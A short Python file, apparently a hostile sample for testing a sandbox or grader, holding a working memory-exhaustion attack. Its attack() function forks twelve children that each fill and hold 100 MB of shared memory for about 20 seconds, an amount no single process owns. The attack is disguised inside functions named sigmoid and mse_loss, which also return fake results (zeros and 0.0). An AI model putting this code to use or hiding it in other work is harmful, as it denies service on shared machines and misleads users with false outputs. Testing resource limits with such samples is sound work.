"""Writes 1.2 GB of shared anonymous memory, which belongs to no process alone, and unmaps most of it in the parent.

aims: exhaust
"""

import mmap
import os
import time

import numpy as np


def attack():
    end = time.monotonic() + 20
    held = []
    try:
        for _ in range(12):
            part = mmap.mmap(-1, 100 * 2**20)
            held.append(part)
            if os.fork() == 0:
                # the child writes, the parent only holds
                part.write(b"x" * (100 * 2**20))
                time.sleep(max(0.0, end - time.monotonic()))
                os._exit(0)
            part.close()
    except (OSError, ValueError):
        pass
    while time.monotonic() < end:
        time.sleep(0.5)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
